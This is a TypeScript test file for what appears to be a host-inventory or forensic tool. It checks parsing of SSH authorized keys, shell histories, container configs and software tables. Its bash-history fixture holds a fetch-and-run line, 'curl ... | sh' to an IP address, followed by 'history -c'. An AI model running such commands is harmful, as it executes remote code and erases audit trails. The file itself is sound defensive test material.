      const key = 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIMmerXkeBtZ6UjC+e9FggbS4OHmnYL4P26WFryz2ZWaP';
      const parsed = parseAuthorizedKey(key);
      assert.ok(typeof parsed !== 'string');
      put('etc/passwd', 'root:x:0:0:root:/root:/bin/bash\nalice:x:1000:1000::/home/alice:/bin/bash\ndeploy:x:1002:1002::/srv/deploy:/bin/sh\n');
      put(
        'etc/ssh/sshd_config',
        ['AuthorizedKeysFile /etc/ssh/keys/%u keys/100%%', 'AuthorizedKeysFile .ssh/ignored', 'Match User deploy', '  AuthorizedKeysFile /srv/keys/%U %x', 'Match User nobody', '  AuthorizedKeysFile none', ''].join('\n'),
      );
      put('etc/ssh/keys/alice', `${key} alice-central\n`);
      put('home/alice/keys/100%', `${key} alice-home\n`);
      // Not named by the configuration: sshd does not read it, so neither does the table.
      put('home/alice/.ssh/authorized_keys', `${key} not-used\n`);
      put('srv/keys/1002', `${key} deploy\n`);
      const ctx = testContext(dir);
      const rows = await authorizedKeys.generate(ctx);
      assertRowsMatchSpec(authorizedKeys, rows);
      assert.deepEqual(
        rows.map((r) => [r['user'], r['path'], r['comment'], r['key']]),
        [
          ['alice', '/etc/ssh/keys/alice', 'alice-central', parsed.fingerprint],
          ['alice', '/home/alice/keys/100%', 'alice-home', parsed.fingerprint],
          ['deploy', '/srv/keys/1002', 'deploy', parsed.fingerprint],
        ],
      );
      assert.match(warningFor(ctx, 'HADES_ERR_INVENTORY_MALFORMED', '/etc/ssh/sshd_config')?.message ?? '', /"%x" has a token/);
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });

  it('keeps quoted spaces inside options', () => {
    const key = parseAuthorizedKey('command="echo a b",environment="X=1 2" ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIMmerXkeBtZ6UjC+e9FggbS4OHmnYL4P26WFryz2ZWaP c d');
    assert.ok(typeof key !== 'string');
    assert.equal(key.options, 'command="echo a b",environment="X=1 2"');
    assert.equal(key.comment, 'c d');
    assert.equal(typeof parseAuthorizedKey('unknown-type AAAA'), 'string');
  });
});

describe('shell_history', () => {
  it('reads bash, zsh (extended, metafied, multi-line), sh and python histories with times', async () => {
    const { rows, ctx } = await run(shellHistory);
    assert.deepEqual(
      by(rows, 'path', '/home/alice/.bash_history').map((r) => [r['line'], r['command'], r['time']]),
      [
        [1, 'ls -la', null],
        [3, 'curl -s http://203.0.113.7/x.sh | sh', 1_700_000_000],
        [5, 'history -c', 1_700_000_060],
      ],
    );
    assert.deepEqual(
      by(rows, 'path', '/home/bob/.zsh_history').map((r) => [r['line'], r['command'], r['time'], r['shell']]),
      [
        [1, 'echo ğ', 1_700_000_100, 'zsh'],
        [2, 'for i in 1 2; do\necho $i\ndone', 1_700_000_200, 'zsh'],
        [5, 'plain command', null, 'zsh'],
      ],
    );
    assert.deepEqual(by(rows, 'path', '/home/alice/.sh_history').map((r) => r['command']), ['id', 'whoami']);
    assert.deepEqual(by(rows, 'path', '/root/.python_history').map((r) => [r['line'], r['command']]), [
      [2, 'import os'],
      [3, 'os.system("id")'],
    ]);
    const fifo = warningFor(ctx, 'HADES_ERR_INVENTORY_UNREADABLE', '/root/.bash_history');
    assert.match(fifo?.message ?? '', /not a regular file/, 'a FIFO is skipped without blocking');
    if (process.getuid?.() === 0) {
      // bob's link to /etc/passwd (root's) is not read as his history.
      assert.deepEqual(by(rows, 'path', '/home/bob/.bash_history'), []);
      assert.match(warningFor(ctx, 'HADES_ERR_INVENTORY_UNREADABLE', '/home/bob/.bash_history')?.message ?? '', /owned by uid 0, not by the account's \(1001\)/);
    }
  });

  it('reads the end of a big history, with true line numbers and a warning', async () => {
    const big = mkdtempSync(path.join(tmpdir(), 'hades-inv-history-'));
    try {
      mkdirSync(path.join(big, 'etc'));
      mkdirSync(path.join(big, 'home/eve'), { recursive: true });
      writeFileSync(path.join(big, 'etc/passwd'), 'eve:x:1002:1002::/home/eve:/bin/bash\n');
      writeFileSync(path.join(big, 'home/eve/.bash_history'), Array.from({ length: 30_000 }, (_, i) => `cmd ${i + 1}`).join('\n') + '\n');
      if (process.getuid?.() === 0) chownSync(path.join(big, 'home/eve/.bash_history'), 1002, 1002);
      // Byte limit: only the last 64 KiB are read.
      let ctx = testContext(big, { maxFileBytes: 64 * 1024 });
      let rows = await shellHistory.generate(ctx);
      assertRowsMatchSpec(shellHistory, rows);
      assert.ok(rows.length > 5000 && rows.length < 10_000, String(rows.length));
      for (const row of [rows[0], rows.at(-1)]) assert.equal(row?.['command'], `cmd ${String(row?.['line'])}`, 'line numbers count the lines not read');
      assert.equal(rows.at(-1)?.['line'], 30_000);
      assert.ok(warningFor(ctx, 'HADES_ERR_INVENTORY_FILE_TOO_BIG', '/home/eve/.bash_history'));
      // Line limit: the file fits, but only the last 10,000 commands are kept.
      ctx = testContext(big, { maxFileBytes: 1024 * 1024 });
      rows = await shellHistory.generate(ctx);
      assert.equal(rows.length, 10_000);
      assert.deepEqual([rows[0]?.['line'], rows[0]?.['command']], [20_001, 'cmd 20001']);
      assert.ok(warningFor(ctx, 'HADES_ERR_INVENTORY_FILE_TOO_BIG', '/home/eve/.bash_history'));
    } finally {
      rmSync(big, { recursive: true, force: true });
    }
  });

  it('unmetafies zsh bytes and parses each format', () => {
    assert.deepEqual([...unmetafy(Buffer.from([0x61, 0x83, 0xbf, 0x62]))], [0x61, 0x9f, 0x62]);
    assert.deepEqual(parseHistory('bash', ['#1700000000', '#not a time', 'x']), [
      { line: 2, command: '#not a time', time: 1_700_000_000 },
      { line: 3, command: 'x', time: null },
    ]);
  });
});

describe('containers', () => {
  it('reads Docker containers and containerd tasks; a damaged config is warned', async () => {
    const { rows, ctx } = await run(containers);
    assert.deepEqual(rows, [
      {
        runtime: 'docker',
        namespace: null,
        id: '4f1c2b3a9d8e7f6a5b4c3d2e1f0a9b8c7d6e5f4a3b2c1d0e9f8a7b6c5d4e3f2a1',
        name: 'web',
        image: 'nginx:1.27',
        image_id: 'sha256:aaaabbbbccccddddeeeeffff0000111122223333444455556666777788889999',
        status: 'running',
        running: 1,
        pid: 4242,
        created: Date.UTC(2026, 10, 27, 10, 0, 0) / 1000,
        started_at: Date.UTC(2026, 10, 27, 10, 0, 1) / 1000,
        command: 'nginx -g daemon off;',
        privileged: 1,
        path: '/var/lib/docker/containers/4f1c2b3a9d8e7f6a5b4c3d2e1f0a9b8c7d6e5f4a3b2c1d0e9f8a7b6c5d4e3f2a1/config.v2.json',
      },
      {
        runtime: 'containerd',
        namespace: 'k8s.io',
        id: '9a8b7c6d5e4f',
        name: 'pause',
        image: 'registry.k8s.io/pause:3.9',
        image_id: null,
        status: 'stopped',
        running: 0,
        pid: null,
        created: rows[1]?.['created'] ?? null,
        started_at: null,
        command: '/pause',
        privileged: null,
        path: '/run/containerd/io.containerd.runtime.v2.task/k8s.io/9a8b7c6d5e4f/config.json',
      },
    ]);
    assert.ok(Math.abs(Number(rows[1]?.['created']) - Date.now() / 1000) < 3600, 'containerd: when the bundle was written');
    assert.ok(warningFor(ctx, 'HADES_ERR_INVENTORY_MALFORMED', '/var/lib/docker/containers/deadbeef/config.v2.json'));
  });
});

describe('software tables: example queries', () => {
  it('every example runs on the fixture host\'s rows', async () => {
    const db = new Database(':memory:');
    try {
      for (const table of softwareTables) {
        const rows = await table.generate(testContext(root));
        assertRowsMatchSpec(table, rows);
        db.exec(`CREATE TABLE ${table.name} (${table.columns.map((c) => `"${c.name}" ${c.type}`).join(', ')})`);
        const insert = db.prepare(`INSERT INTO ${table.name} VALUES (${table.columns.map(() => '?').join(', ')})`);
        for (const row of rows) insert.run(...table.columns.map((c) => row[c.name] ?? null));
      }
      for (const table of softwareTables) {
        for (const example of table.examples) assert.doesNotThrow(() => db.prepare(example.sql).all(), `${table.name}: ${example.sql}`);
      }
      const vulnerable = db.prepare('SELECT path FROM jar_packages WHERE vulnerable = 1 ORDER BY path').all() as { path: string }[];
      assert.ok(vulnerable.length >= 3);
    } finally {
      db.close();
    }
  });
});

describe('software tables on this host', () => {
  for (const table of softwareTables) {
    it(`${table.name} runs against / without an error`, async () => {
      const ctx = testContext('/', { maxFileBytes: 16 * 1024 * 1024 });
      const rows = await table.generate(ctx);
      assertRowsMatchSpec(table, rows);
      for (const w of ctx.warnings) assert.ok(Object.hasOwn(errorCatalog, w.code), w.code);
      if (table.name === 'deb_packages') assert.ok(rows.some((r) => r['name'] === 'bash'), 'this Debian host has bash');
      if (table.name === 'systemd_units') assert.ok(rows.length > 10);
    });
  }
});

describe('reading a host file (host-read.ts)', () => {
  it('does not block on a FIFO where a file is expected: a warning, no content', () => {
    const dir = mkdtempSync(path.join(tmpdir(), 'hades-host-read-'));
    try {
      mkdirSync(path.join(dir, 'etc'));
      execFileSync('mkfifo', [path.join(dir, 'etc', 'passwd')]);
      const ctx = testContext(dir);
      assert.equal(readBytes(ctx, path.join(dir, 'etc', 'passwd'), '/etc/passwd'), undefined);
      assert.match(warningFor(ctx, 'HADES_ERR_INVENTORY_UNREADABLE', '/etc/passwd')?.message ?? '', /not a regular file/);
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });
});
